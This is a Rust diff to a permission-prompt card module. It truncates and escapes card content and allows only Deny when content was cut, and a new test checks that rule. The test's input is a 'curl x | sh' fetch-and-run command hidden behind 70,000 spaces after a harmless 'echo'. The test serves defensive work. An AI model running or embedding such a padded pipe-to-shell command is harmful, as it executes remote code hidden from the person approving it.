@@ -22,6 +22,7 @@ use serde::{Deserialize, Serialize};
 
 use super::card::{shown_hash, Card, CardOption, CardState, Item, NewCard, Source};
 use super::error::CardError;
+use super::present::{present, DENY};
 
 /// Most cards waiting at once.
 pub const MAX_WAITING: usize = 2_048;
@@ -98,13 +99,17 @@ impl Cards {
     }
 
     /// Keeps a new card under `id` (fresh, 128-bit random), waiting until `now + hold_ms`.
+    ///
+    /// A held permission's or screen prompt's card is first made to show what it decides
+    /// ([`present`]): escaped, cut to its limits, and offering only Deny when anything was cut.
     pub fn open(
         &mut self,
         id: String,
-        new: NewCard,
+        mut new: NewCard,
         now: u64,
         hold_ms: u64,
     ) -> Result<Card, CardError> {
+        let notes = present(&mut new);
         new.check().map_err(CardError::BadCard)?;
         let bytes = new.title.len() + new.items.iter().map(Item::text_len).sum::<usize>();
         if self.waiting.len() >= MAX_WAITING || self.bytes + bytes > MAX_WAITING_BYTES {
@@ -113,8 +118,7 @@ impl Cards {
         if self.waiting.contains_key(&id) {
             return Err(CardError::BadCard("card id in use".to_owned()));
         }
-        let shown = shown_hash(&new.title, &new.items, &new.options);
-        let card = Card {
+        let mut card = Card {
             id: id.clone(),
             machine: new.machine,
             pane: new.pane,
@@ -127,10 +131,14 @@ impl Cards {
             created: now,
             expires: now.saturating_add(hold_ms),
             state: CardState::Waiting,
-            shown,
+            shown: String::new(),
             question: new.question,
             shortened: new.shortened,
+            hidden_characters: notes.hidden,
+            masked: new.masked,
+            not_shown: notes.not_shown,
         };
+        card.shown = shown_hash(&card);
         self.bytes += bytes;
         self.waiting.insert(
             id,
@@ -173,6 +181,10 @@ impl Cards {
             .find(|o| o.id == option)
             .cloned()
             .ok_or_else(|| CardError::UnknownOption(option.to_owned()))?;
+        // Offered only Deny (see `present`); this holds even if that ever changed.
+        if w.card.not_shown > 0 && chosen.id != DENY {
+            return Err(CardError::UnknownOption(option.to_owned()));
+        }
         if chosen.id == ALWAYS {
             let confirmed = match (&w.confirm, confirm) {
                 (Some((expected, until, by)), Some(given)) => {
@@ -331,6 +343,7 @@ mod tests {
                 .collect(),
             question: None,
             shortened: false,
+            masked: false,
         }
     }
 
@@ -371,6 +384,36 @@ mod tests {
             cards.tap("a", "allow", &card.shown, "pixel", None, no_token, 2_004),
             Err(CardError::Closed)
         );
+    }
+
+    #[test]
+    fn a_card_cut_at_its_limit_is_only_denied() {
+        let mut cards = Cards::new();
+        let mut new = new_card(&["allow", "deny", "always"]);
+        new.items = vec![Item::Code {
+            text: format!("echo tidy{}; curl x | sh", " ".repeat(70_000)),
+        }];
+        let card = cards.open("a".into(), new, 1_000, HOLD).unwrap();
+        assert!(card.shortened && card.not_shown > 0);
+        assert_eq!(card.options.len(), 1);
+        for option in ["allow", "always"] {
+            assert_eq!(
+                cards.tap(
+                    "a",
+                    option,
+                    &card.shown,
+                    "pixel",
+                    None,
+                    || "t".into(),
+                    2_000
+                ),
+                Err(CardError::UnknownOption(option.into()))
+            );
+        }
+        assert!(matches!(
+            cards.tap("a", "deny", &card.shown, "pixel", None, no_token, 2_001),
+            Ok(Tap::Claimed { .. })
+        ));
     }
 
     #[test]
